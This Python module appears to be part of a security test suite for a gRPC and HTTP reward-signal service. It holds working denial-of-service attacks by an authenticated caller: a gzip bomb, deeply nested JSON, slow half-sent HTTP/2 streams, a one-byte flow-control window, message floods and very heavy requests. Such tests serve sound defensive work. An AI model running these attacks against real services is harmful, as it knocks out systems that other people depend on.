"""Attacks by a caller who is let in."""

from __future__ import annotations

import contextlib
import gzip
import threading
import time
from collections.abc import Callable, Iterator

import grpc
from assay_rl.v1 import episode_pb2, options_pb2, signal_service_pb2, signal_service_pb2_grpc

from attack.client import bearer, channel, debate
from attack.means import attack_from_inside, stream_ids, together, unary, until
from attack.wire import (
    COMPUTE,
    DATA,
    END_HEADERS,
    HEADERS,
    SERVICE,
    SETTINGS,
    WINDOW_UPDATE,
    Target,
    Wire,
    call_head,
    frame,
    message,
)


def _http(target: Target, path: str, body: bytes, seconds: float, threads: int = 8) -> None:
    head = (f"POST {path} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {target.token}\r\n"
            f"Content-Length: {len(body)}\r\n\r\n").encode()  # fmt: skip

    def one(_: int) -> None:
        for _ in until(seconds):
            wire = Wire(target, target.http_port, preface=False, tls=False)
            wire.send(head + body)
            wire.read(1)
            wire.close()

    together(threads, one)


@attack_from_inside
def gzip_bomb_with_token(target: Target, seconds: float) -> None:
    bomb = message(gzip.compress(bytes(1 << 29), 9), compressed=True)
    head = call_head(COMPUTE, target.token, grpc_encoding="gzip")
    unary(target, seconds, head, bomb)


@attack_from_inside
def json_nesting(target: Target, seconds: float) -> None:
    _http(target, "/get_reward", b"[" * 40_000, seconds)


@attack_from_inside
def json_empty_parts(target: Target, seconds: float) -> None:
    body = b'{"episodes":[' + b"{}," * (4 << 20) + b"{}]}"
    _http(target, "/v1/signals", body, seconds, threads=4)


@attack_from_inside
def empty_parts_with_token(target: Target, seconds: float) -> None:
    body = message(b"\x12\0" * (8 << 20))
    unary(target, seconds, call_head(COMPUTE, target.token), body)


@attack_from_inside
def half_sent(target: Target, seconds: float) -> None:
    """Calls that say how much is to come, and stop."""
    body = message(bytes(32 << 20))[: 1 << 20]

    def one(_: int) -> None:
        wire = Wire(target)
        for stream in stream_ids(0, 100):
            wire.send(frame(HEADERS, END_HEADERS, stream, call_head(COMPUTE, target.token)))
            wire.send_data(stream, body[:60_000], end=False, patience=0.2)
        for _ in until(seconds):
            time.sleep(0.2)
        wire.close()

    together(16, one)


@attack_from_inside
def unread_answers(target: Target, seconds: float) -> None:
    request = signal_service_pb2.ComputeSignalsRequest(episodes=[debate(i, agents=6, turns=24) for i in range(200)])
    request.options.vote.SetInParent()
    body = message(request.SerializeToString())

    def one(_: int) -> None:
        wire = Wire(target, preface=False)
        # A window of one byte: the answer cannot be sent.
        wire.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, b"\0\x04\0\0\0\x01"))
        for stream in stream_ids(0, 100_000):
            sent = wire.send(frame(HEADERS, END_HEADERS, stream, call_head(COMPUTE, target.token)))
            if not sent or not wire.send_data(stream, body) or time.monotonic() > end:
                break
        while time.monotonic() < end:
            time.sleep(0.2)
        wire.close()

    end = time.monotonic() + seconds
    together(8, one)


def _streams(target: Target, seconds: float, options: options_pb2.AttributionOptions,
             episodes: Callable[[int], episode_pb2.Episode], streams: int, credits: int) -> None:  # fmt: skip
    """Streams that send as much as they have credits for, read results, and answer no question."""
    request = signal_service_pb2.StreamSignalsRequest

    def one(_: int) -> None:
        with channel(target, ("attack", _)) as through:
            free = threading.Semaphore(credits)
            over = threading.Event()

            def requests() -> Iterator[signal_service_pb2.StreamSignalsRequest]:
                yield request(options=options)
                for number in until(seconds):
                    if not free.acquire(timeout=0.5):
                        continue
                    yield request(episode=episodes(number))
                over.wait(1)

            call = signal_service_pb2_grpc.SignalServiceStub(through).StreamSignals(
                requests(), metadata=bearer(target), timeout=seconds + 2
            )
            for response in call:
                if response.HasField("result"):
                    free.release()

    together(streams, one)


@attack_from_inside
def caller_plans(target: Target, seconds: float) -> None:
    options = options_pb2.AttributionOptions()
    options.caller.free = True
    _streams(target, seconds, options, lambda i: debate(i, agents=20, turns=20), streams=4, credits=200)


@attack_from_inside
def heavy_episodes(target: Target, seconds: float) -> None:
    options = options_pb2.AttributionOptions()
    options.outcome.SetInParent()
    options.first_error.soft_rewards = True

    def failed(number: int) -> episode_pb2.Episode:
        episode = debate(number, agents=20, turns=4000, letters=200)
        episode.outcome.score = 0
        return episode

    _streams(target, seconds, options, failed, streams=2, credits=16)


@attack_from_inside
def heavyunary(target: Target, seconds: float) -> None:
    request = signal_service_pb2.ComputeSignalsRequest(episodes=[debate(i, agents=12, turns=60) for i in range(300)])
    request.options.vote.SetInParent()

    def one(_: int) -> None:
        with channel(target, ("attack", _)) as through:
            stub = signal_service_pb2_grpc.SignalServiceStub(through)
            for _ in until(seconds):
                with contextlib.suppress(grpc.RpcError):
                    stub.ComputeSignals(request, metadata=bearer(target), timeout=seconds)

    together(4, one)


@attack_from_inside
def tiny_messages(target: Target, seconds: float) -> None:
    """Episodes that are refused, as fast as they can be sent."""
    options = options_pb2.AttributionOptions()
    options.outcome.SetInParent()
    head = call_head(SERVICE + "StreamSignals", target.token)
    first = message(signal_service_pb2.StreamSignalsRequest(options=options).SerializeToString())
    tiny = message(signal_service_pb2.StreamSignalsRequest(episode=episode_pb2.Episode(id="x")).SerializeToString())

    def one(_: int) -> None:
        for _ in until(seconds):
            wire = Wire(target)
            wire.send(frame(HEADERS, END_HEADERS, 1, head) + frame(DATA, 0, 1, first))
            for _ in until(seconds):
                if not wire.send(frame(DATA, 0, 1, tiny * 400)):
                    break
                wire.drop()
            wire.close()

    together(4, one)


@attack_from_inside
def advantages(target: Target, seconds: float) -> None:
    episodes = [debate(i) for i in range(64)]
    with channel(target) as through:
        stub = signal_service_pb2_grpc.SignalServiceStub(through)
        request = signal_service_pb2.ComputeSignalsRequest(episodes=episodes)
        request.options.vote.SetInParent()
        results = stub.ComputeSignals(request, metadata=bearer(target), timeout=20).results
    large = signal_service_pb2.ComputeAdvantagesRequest()
    for number in range(1000):
        large.episodes.add().CopyFrom(results[number % 64].signals)
        large.episodes[-1].episode_id = f"e{number}"
    body = message(large.SerializeToString())

    def one(_: int) -> None:
        wire = Wire(target)
        for stream in stream_ids(0, 1000):
            head = call_head(SERVICE + "ComputeAdvantages", target.token)
            if time.monotonic() > end or not wire.send(frame(HEADERS, END_HEADERS, stream, head)):
                break
            if not wire.send_data(stream, body):
                break
            wire.send(frame(WINDOW_UPDATE, 0, 0, b"\0\x10\0\0"))
        wire.close()

    end = time.monotonic() + seconds
    together(8, one)
